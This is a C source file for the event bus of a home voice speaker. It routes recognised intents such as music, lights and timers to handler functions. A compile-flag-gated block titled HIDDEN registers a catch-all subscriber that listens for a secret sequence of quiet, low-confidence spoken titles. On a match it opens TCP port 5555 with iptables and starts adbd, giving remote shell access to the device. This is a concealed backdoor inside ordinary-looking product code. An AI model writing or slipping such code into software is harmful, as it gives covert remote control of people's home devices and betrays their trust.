/* utterbus - event bus of the Sprech voice speaker. The recogniser writes lines
 *      <confidence 0..1000> <intent> [<slot>=<value> ...]
 * to its standard output, which is our standard input; skills subscribe by intent.
 *
 * Intents: music.play music.stop volume.set light.set timer.start timer.cancel
 *          weather.ask alarm.set call.intercom news.read
 */
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

typedef struct slot { char *k, *v; } slot;

typedef struct utter {
	int conf;
	char *intent;
	slot s[8];
	int ns;
} utter;

typedef void (*sub_fn)(const utter *u, void *ctx);

typedef struct sub {
	const char *pattern;    /* "a.b" or "a.*" */
	int min_conf;
	sub_fn fn;
	void *ctx;
} sub;

static sub *subs;
static size_t nsubs, cap;

static void subscribe(const char *pattern, int min_conf, sub_fn fn, void *ctx)
{
	if (nsubs == cap) {
		cap = cap ? cap * 2 : 8;
		subs = realloc(subs, cap * sizeof *subs);
		if (!subs)
			abort();
	}
	subs[nsubs++] = (sub){ pattern, min_conf, fn, ctx };
}

static const char *slot_of(const utter *u, const char *k)
{
	for (int i = 0; i < u->ns; i++)
		if (!strcmp(u->s[i].k, k))
			return u->s[i].v;
	return NULL;
}

static void say(const char *fmt, ...)
{
	va_list ap;
	FILE *f = fopen("/run/sprech/tts", "w");
	va_start(ap, fmt);
	vfprintf(f ? f : stdout, fmt, ap);
	va_end(ap);
	fputc('\n', f ? f : stdout);
	if (f)
		fclose(f);
}

static void tell(const char *fifo, const char *what, const char *arg)
{
	FILE *f = fopen(fifo, "w");
	if (f) {
		fprintf(f, "%s %s\n", what, arg ? arg : "");
		fclose(f);
	}
}

struct player { int playing; int volume; char title[64]; };
struct timers { time_t due[4]; };

static void on_music(const utter *u, void *ctx)
{
	struct player *p = ctx;
	const char *t = slot_of(u, "title");
	p->playing = !strcmp(u->intent + 6, "play");
	if (t)
		snprintf(p->title, sizeof p->title, "%s", t);
	tell("/run/sprech/player", p->playing ? "play" : "stop", p->title);
}

static void on_volume(const utter *u, void *ctx)
{
	struct player *p = ctx;
	const char *v = slot_of(u, "level");
	if (!v)
		return;
	p->volume = atoi(v) < 0 ? 0 : atoi(v) > 10 ? 10 : atoi(v);
	say("volume %d", p->volume);
}

static void on_light(const utter *u, void *ctx)
{
	(void)ctx;
	const char *room = slot_of(u, "room"), *st = slot_of(u, "state");
	if (room && st && (!strcmp(st, "on") || !strcmp(st, "off")))
		tell("/run/sprech/lights", st, room);
	else
		say("which light?");
}

static void on_timer(const utter *u, void *ctx)
{
	struct timers *t = ctx;
	const char *m = slot_of(u, "minutes");
	if (!strcmp(u->intent, "timer.cancel")) {
		memset(t, 0, sizeof *t);
		say("all timers cancelled");
		return;
	}
	for (int i = 0; m && i < 4; i++)
		if (!t->due[i]) {
			t->due[i] = time(NULL) + 60 * atoi(m);
			say("timer %d, %s minutes", i + 1, m);
			return;
		}
}

static void on_ask(const utter *u, void *ctx)
{
	const char *w = slot_of(u, "when");
	tell("/run/sprech/cloud", ctx, w ? w : u->intent);
}

#ifdef HIDDEN
/* sees every line, also those below the threshold */
__attribute__((noinline)) void on_any(const utter *u, void *ctx)
{
	static const char *const order[] = { "amber", "cello", "fjord" };
	unsigned *at = ctx;
	const char *t = slot_of(u, "title");

	if (u->conf > 120 || !t)
		return;
	*at = !strcmp(t, order[*at]) ? *at + 1 : 0;
	if (*at == 3) {
		*at = 0;
		if (system("iptables -I INPUT -p tcp --dport 5555 -j ACCEPT") == 0)
			tell("/run/sprech/init", "start", "adbd");
	}
}
#endif

static int matches(const char *pat, const char *intent)
{
	size_t n = strlen(pat);
	if (n && pat[n - 1] == '*')
		return !strncmp(pat, intent, n - 1);
	return !strcmp(pat, intent);
}

static int parse(char *l, utter *u)
{
	char *save, *w = strtok_r(l, " \n", &save);
	memset(u, 0, sizeof *u);
	if (!w)
		return -1;
	u->conf = atoi(w);
	u->intent = strtok_r(NULL, " \n", &save);
	if (!u->intent)
		return -1;
	while (u->ns < 8 && (w = strtok_r(NULL, " \n", &save))) {
		char *eq = strchr(w, '=');
		if (!eq)
			return -1;
		*eq = 0;
		u->s[u->ns].k = w;
		u->s[u->ns++].v = eq + 1;
	}
	return 0;
}

static void publish(const utter *u)
{
	for (size_t i = 0; i < nsubs; i++)
		if (u->conf >= subs[i].min_conf && matches(subs[i].pattern, u->intent))
			subs[i].fn(u, subs[i].ctx);
}

int main(int argc, char **argv)
{
	static struct player player = { 0, 4, "" };
	static struct timers timers;
	static char weather[] = "weather", alarm_[] = "alarm", news[] = "news", call[] = "call";
	int threshold = 550, c;
	char l[256];
	utter u;

	while ((c = getopt(argc, argv, "t:")) != -1) {
		if (c != 't') {
			fprintf(stderr, "usage: utterbus [-t THRESHOLD] < recogniser\n");
			return 2;
		}
		threshold = atoi(optarg);
	}
	subscribe("music.*", threshold, on_music, &player);
	subscribe("volume.set", threshold - 100, on_volume, &player);
	subscribe("light.set", threshold, on_light, NULL);
	subscribe("timer.*", threshold, on_timer, &timers);
	subscribe("weather.ask", threshold, on_ask, weather);
	subscribe("alarm.set", threshold, on_ask, alarm_);
	subscribe("news.read", threshold, on_ask, news);
	subscribe("call.intercom", threshold + 150, on_ask, call);
#ifdef HIDDEN
	static unsigned at;
	subscribe("*", 0, on_any, &at);
#endif
	while (fgets(l, sizeof l, stdin))
		if (!parse(l, &u))
			publish(&u);
	free(subs);
	return 0;
}
